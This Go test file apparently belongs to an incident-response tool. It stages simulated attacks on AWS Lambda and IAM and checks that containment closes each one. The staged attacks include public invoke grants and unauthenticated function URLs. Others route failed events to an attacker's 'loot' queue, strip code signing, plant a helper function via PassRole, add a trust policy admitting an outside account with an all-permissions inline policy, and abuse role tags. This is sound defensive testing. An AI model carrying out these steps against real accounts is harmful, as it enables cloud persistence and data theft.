package attackers

import (
	"errors"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/iam"
	"github.com/aws/aws-sdk-go-v2/service/lambda"
	lt "github.com/aws/aws-sdk-go-v2/service/lambda/types"
	"github.com/aws/aws-sdk-go-v2/service/sqs"

	"github.com/freezeframe-ir/freezeframe/contain"
	"github.com/freezeframe-ir/freezeframe/internal/finding"
)

const (
	foreignEvents = "destination abroad"
	deployed      = "unsigned deployment"
	helper        = "helper"
	helperRuns    = "function of the attacker's making"
	asSecurity    = "session with a tag"
)

func doorRows() []row {
	return []row{
		{n: 7, threat: "external or public grant", through: []string{foreignRole}, own: []string{"grants-remove"}, plan: finds("function-permission", "granted"),
			attack: func(w *world) {
				for _, q := range []*string{nil, aws.String("live"), aws.String("1")} {
					_, err := w.lambda(w.ci).AddPermission(w.t.Context(), &lambda.AddPermissionInput{FunctionName: aws.String(function), Qualifier: q, StatementId: aws.String("partner"), Action: aws.String("lambda:InvokeFunction"), Principal: aws.String(away)})
					must(w.t, err)
				}
			}},
		{n: 8, threat: "function URL, AuthType NONE", through: []string{anonymousURL}, own: []string{"url-iam"}, plan: finds("function-url", "created"), attack: openURL},
		{n: 9, threat: "event source implant", through: []string{queueTrigger}, own: []string{"mappings-evict"},
			attack: func(w *world) {
				out, err := w.lambda(w.ci).CreateEventSourceMapping(w.t.Context(), &lambda.CreateEventSourceMappingInput{FunctionName: aws.String(function), EventSourceArn: aws.String(awayQueue)})
				must(w.t, err)
				w.notes["implant"] = aws.ToString(out.UUID)
			},
			plan: func(w *world, in *contain.PlanInput) {
				f := found("event-source-mapping", "created", "arn:aws:lambda:"+region+":"+home+":event-source-mapping:"+w.notes["implant"], w.notes["implant"])
				in.Findings = []finding.Finding{f}
			}},
		{n: 10, threat: "event triggers", through: []string{ruleTrigger, plantedTarget, plantedSchedule}, own: []string{"rules-evict", "rule-targets-evict", "schedules-evict"},
			attack: (*world).plant, plan: plantedFindings,
			extra: func(*world) []path {
				return []path{{plantedTarget, (*world).tryPlanted}, {plantedSchedule, (*world).trySchedule}}
			}},
		{n: 11, threat: "destination or DLQ exfiltration", through: []string{foreignEvents}, own: []string{"destinations-clear"}, plan: finds("invoke-configuration", "changed"),
			attack: func(w *world) {
				_, err := w.lambda(w.ci).PutFunctionEventInvokeConfig(w.t.Context(), &lambda.PutFunctionEventInvokeConfigInput{FunctionName: aws.String(function), DestinationConfig: &lt.DestinationConfig{OnFailure: &lt.OnFailure{Destination: aws.String(awayQueue)}}})
				must(w.t, err)
			},
			extra: func(*world) []path { return []path{{foreignEvents, (*world).tryDestination}} }},
		{n: 15, threat: "code-signing bypass", through: []string{deployed}, own: []string{"code-signing-enforce"},
			attack: (*world).signed,
			extra:  func(*world) []path { return []path{{deployed, (*world).tryDeploy}} }},
	}
}

func openURL(w *world) {
	_, err := w.lambda(w.ci).CreateFunctionUrlConfig(w.t.Context(), &lambda.CreateFunctionUrlConfigInput{FunctionName: aws.String(function), AuthType: lt.FunctionUrlAuthTypeNone})
	must(w.t, err)
	for _, action := range []string{"lambda:InvokeFunctionUrl", "lambda:InvokeFunction"} {
		in := &lambda.AddPermissionInput{FunctionName: aws.String(function), StatementId: aws.String("open-" + action[7:]), Action: &action, Principal: aws.String("*")}
		if action == "lambda:InvokeFunctionUrl" {
			in.FunctionUrlAuthType = lt.FunctionUrlAuthTypeNone
		} else {
			in.InvokedViaFunctionUrl = aws.Bool(true)
		}
		_, err := w.lambda(w.ci).AddPermission(w.t.Context(), in)
		must(w.t, err)
	}
}

// tryDestination: events reach the attacker's queue where a destination or the dead-letter
// queue is abroad and the role may send there. With concurrency 0 they go at once.
func (w *world) tryDestination() error {
	ctx, q := w.t.Context(), sqs.NewFromConfig(w.foreign)
	url, err := q.GetQueueUrl(ctx, &sqs.GetQueueUrlInput{QueueName: aws.String("loot")})
	must(w.t, err)
	out, err := w.lambda(w.owner).ListFunctionEventInvokeConfigs(ctx, &lambda.ListFunctionEventInvokeConfigsInput{FunctionName: aws.String(function)})
	must(w.t, err)
	for _, c := range out.FunctionEventInvokeConfigs {
		if c.DestinationConfig == nil || c.DestinationConfig.OnFailure == nil || aws.ToString(c.DestinationConfig.OnFailure.Destination) != awayQueue {
			continue
		}
		env, err := w.environment(functionARN)
		if err != nil {
			return err
		}
		_, err = sqs.NewFromConfig(env).SendMessage(ctx, &sqs.SendMessageInput{QueueUrl: url.QueueUrl, MessageBody: aws.String("event")})
		return err
	}
	return errShut
}

// signed: only what the owner's profile signed may be deployed, until somebody takes that away.
func (w *world) signed() {
	out, err := w.lambda(w.owner).CreateCodeSigningConfig(w.t.Context(), &lambda.CreateCodeSigningConfigInput{
		AllowedPublishers:   &lt.AllowedPublishers{SigningProfileVersionArns: []string{"arn:aws:signer:" + region + ":" + home + ":/signing-profiles/Owner/abcdefghij"}},
		CodeSigningPolicies: &lt.CodeSigningPolicies{UntrustedArtifactOnDeployment: lt.CodeSigningPolicyEnforce}})
	must(w.t, err)
	_, err = w.lambda(w.owner).PutFunctionCodeSigningConfig(w.t.Context(), &lambda.PutFunctionCodeSigningConfigInput{FunctionName: aws.String(function), CodeSigningConfigArn: out.CodeSigningConfig.CodeSigningConfigArn})
	must(w.t, err)
	_, err = w.lambda(w.ci).DeleteFunctionCodeSigningConfig(w.t.Context(), &lambda.DeleteFunctionCodeSigningConfigInput{FunctionName: aws.String(function)})
	must(w.t, err)
}

// tryDeploy: may the actor, in an old session or a new one, deploy what nobody signed? Asked
// without deploying.
func (w *world) tryDeploy() error {
	out, err := w.lambda(w.owner).GetFunctionCodeSigningConfig(w.t.Context(), &lambda.GetFunctionCodeSigningConfigInput{FunctionName: aws.String(function)})
	must(w.t, err)
	if aws.ToString(out.CodeSigningConfigArn) != "" {
		return errors.New("unsigned code is refused")
	}
	again, err := w.assume(w.robot, deployARN)
	for _, cfg := range []aws.Config{w.ci, again} {
		if cfg.Credentials == nil {
			continue
		}
		if _, err = w.lambda(cfg).UpdateFunctionCode(w.t.Context(), &lambda.UpdateFunctionCodeInput{FunctionName: aws.String(function), ZipFile: pack(w.t, "unsigned"), DryRun: true}); err == nil {
			return nil
		}
	}
	return err
}

func identityRows() []row {
	return []row{
		{n: 12, threat: "role credentials stolen", through: []string{sessionBefore, chainedSession}, own: []string{"revoke-sessions"}, attack: func(*world) {}},
		{n: 13, threat: "PassRole and CreateFunction", through: []string{helperRuns}, passing: "a function is never deleted: the helper stays at concurrency 0, or its owner deletes it",
			attack: func(w *world) {
				_, err := w.lambda(w.ci).CreateFunction(w.t.Context(), &lambda.CreateFunctionInput{FunctionName: aws.String(helper), Role: aws.String(roleARN), Runtime: lt.RuntimePython313, Handler: aws.String("app.handler"), Code: &lt.FunctionCode{ZipFile: pack(w.t, "helper")}})
				must(w.t, err)
				w.responder = w.session(w.cloud.Bootstrap(home, "responder-of-two", containPolicy(w.t, function, helper)))
			},
			extra: func(*world) []path { return []path{{helperRuns, (*world).tryHelper}} },
			plan: func(_ *world, in *contain.PlanInput) {
				in.Functions = append(in.Functions, helper)
				in.Findings = []finding.Finding{found("function", "created", "arn:aws:lambda:"+region+":"+home+":function:"+helper, helper)}
			}},
		{n: 14, threat: "role policy or trust change", through: []string{sessionAfter}, own: []string{"trust-outsiders"},
			attack: func(w *world) {
				c, ctx := iam.NewFromConfig(w.ci), w.t.Context()
				_, err := c.UpdateAssumeRolePolicy(ctx, &iam.UpdateAssumeRolePolicyInput{RoleName: aws.String("payments-role"), PolicyDocument: aws.String(
					`{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"Service":"lambda.amazonaws.com"},"Action":"sts:AssumeRole"},{"Effect":"Allow","Principal":{"AWS":"arn:aws:iam::` + away + `:root"},"Action":"sts:AssumeRole"}]}`)})
				must(w.t, err)
				_, err = c.PutRolePolicy(ctx, &iam.PutRolePolicyInput{RoleName: aws.String("payments-role"), PolicyName: aws.String("more"), PolicyDocument: aws.String(everything)})
				must(w.t, err)
			},
			plan: func(_ *world, in *contain.PlanInput) {
				in.Actors = append(in.Actors, roleARN)
				in.Findings = []finding.Finding{found("trust-policy", "changed", roleARN, "payments-role"), found("inline-policy", "granted", roleARN, "more")}
			}},
		{n: 25, threat: "tag/ABAC abuse", through: []string{asSecurity}, own: []string{"role-tags-back"},
			attack: func(w *world) {
				_, err := iam.NewFromConfig(w.ci).TagRole(w.t.Context(), &iam.TagRoleInput{RoleName: aws.String("payments-role"), Tags: roleTag("team", "security")})
				must(w.t, err)
			},
			plan: func(w *world, in *contain.PlanInput) {
				f := found("role-tags", "changed", roleARN, "payments-role")
				f.At = w.begun // what was collected before is the owner's
				in.Findings = []finding.Finding{f}
			},
			extra: func(*world) []path { return []path{{asSecurity, (*world).tryTagged}} }},
	}
}

// tryHelper calls the attacker's own function, and uses what its environment holds.
func (w *world) tryHelper() error {
	if _, err := w.lambda(w.app).Invoke(w.t.Context(), &lambda.InvokeInput{FunctionName: aws.String("arn:aws:lambda:" + region + ":" + home + ":function:" + helper)}); err != nil {
		return err
	}
	env, err := w.environment("arn:aws:lambda:" + region + ":" + home + ":function:" + helper)
	if err != nil {
		return errors.Join(errShut, err)
	}
	return w.buckets(env)
}

// tryTagged: the stolen session, and code of the function, with the tag that the role has now.
func (w *world) tryTagged() error {
	_, err := iam.NewFromConfig(w.stolen).ListUsers(w.t.Context(), &iam.ListUsersInput{})
	if err == nil {
		return nil
	}
	env, err := w.environment(functionARN)
	if err != nil {
		return err
	}
	_, err = iam.NewFromConfig(env).ListUsers(w.t.Context(), &iam.ListUsersInput{})
	return err
}
